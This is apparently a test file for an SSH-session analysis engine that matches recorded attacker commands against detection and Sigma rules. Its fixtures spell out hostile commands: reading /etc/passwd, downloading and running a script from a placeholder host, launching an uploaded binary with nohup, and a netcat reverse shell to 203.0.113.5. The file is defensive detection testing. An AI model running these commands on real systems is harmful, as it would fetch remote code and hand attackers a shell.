/** The rules where they run: in the analyst's thread, from recordings. */
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { Analyst } from '../../../src/analysis/analyst/analyst.ts'
import type { AnalystBatch } from '../../../src/analysis/analyst/session-observer.ts'
import { newFolder, quiet } from '../../recorder/support.ts'
import { exec, Recordings } from '../analyst/recordings.ts'

const recordings = new Recordings()
const batches: AnalystBatch[] = []
const told: string[] = []
let analyst: Analyst

beforeAll(() => {
  analyst = new Analyst({
    dataFolder: newFolder(),
    recordingsFolder: recordings.bench.folder,
    sigmaFolder: join(import.meta.dirname, 'sigma/samples'),
    sessions: {
      list: async ({ state }) => recordings.rows.filter(row => row.state === state),
      retained: async () => [],
    },
    fetch: async () => {
      throw new Error('all recordings are here')
    },
    onBatch: batch => void batches.push(batch),
    log: { ...quiet, warn: (...said: unknown[]) => void told.push(JSON.stringify(said)) },
  })
  analyst.start()
})
afterAll(async () => {
  await analyst.stop()
  await recordings.recorder.close()
})

const idsOf = (session: string): string[] =>
  batches.filter(batch => batch.session === session).flatMap(({ hits }) => hits.map(({ rule }) => rule))

test('several lines of one session meet what none of them meets alone', async () => {
  const recording = await recordings.open('s1')
  analyst.opened(recordings.rows[0]!)
  const lines = [
    'whoami',
    'uname -a',
    'ss -tlnp',
    'ip a',
    'last',
    'cat /etc/passwd',
    'wget https://x.example/t.sh',
    'sh t.sh',
  ]
  for (const [channel, line] of lines.entries()) await recordings.record(recording, exec(line, channel))
  await recording.seal('done')
  await expect.poll(() => idsOf('s1')).toEqual(expect.arrayContaining(['SSH-25e', 'SSH-11b']))
})

test('a file that is uploaded, renamed and run in one session', async () => {
  const recording = await recordings.open('s3')
  analyst.opened(recordings.rows[0]!)
  const written = { bytes: 9, sha256: 'ab', complete: true }
  await recordings.record(recording, [
    { type: 'file-open', channel: 0, file: 1, operation: 'open', path: '/tmp/x.part', flags: [] },
    { type: 'file-close', channel: 0, file: 1, path: '/tmp/x.part', status: 'ok', written },
    {
      type: 'file-operation',
      channel: 0,
      operation: 'rename',
      status: 'ok',
      path: '/tmp/x.part',
      targetPath: '/tmp/x',
    },
    ...exec('nohup /tmp/x', 1),
  ])
  await recording.seal('done')
  await expect.poll(() => idsOf('s3')).toContain('SSH-26c')
})

test('Sigma rules of the folder are in force, and the log tells of those that are not', async () => {
  const recording = await recordings.open('s2')
  analyst.opened(recordings.rows[0]!)
  await recordings.record(recording, exec('sudo nc -e /bin/sh 203.0.113.5 99', 0))
  await recording.seal('done')
  await expect.poll(() => idsOf('s2')).toContain('sigma-0a6b1f0e-6a53-4c0a-9c55-6b1a2f0c0001')
  expect(told.join('\n')).toContain('Sigma rules of 10 files are not in force')
})
